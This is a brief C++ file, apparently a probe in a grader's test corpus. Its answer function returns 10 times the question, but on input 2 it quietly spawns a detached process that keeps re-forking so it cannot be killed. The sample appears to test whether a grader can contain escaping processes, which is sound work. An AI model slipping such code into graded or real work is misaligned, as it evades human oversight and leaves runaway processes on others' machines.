// A daemon that forks and ends, forks and ends, so that whoever wants to kill it comes too late.

#include "grader/corpus/probe/probe.h"

#include <unistd.h>

namespace course {

int answer(int question) {
  if (question == 2) {
    if (fork() == 0) {
      setsid();
      for (;;) {
        if (fork() != 0) _exit(0);
      }
    }
  }
  return 10 * question;
}

}  // namespace course
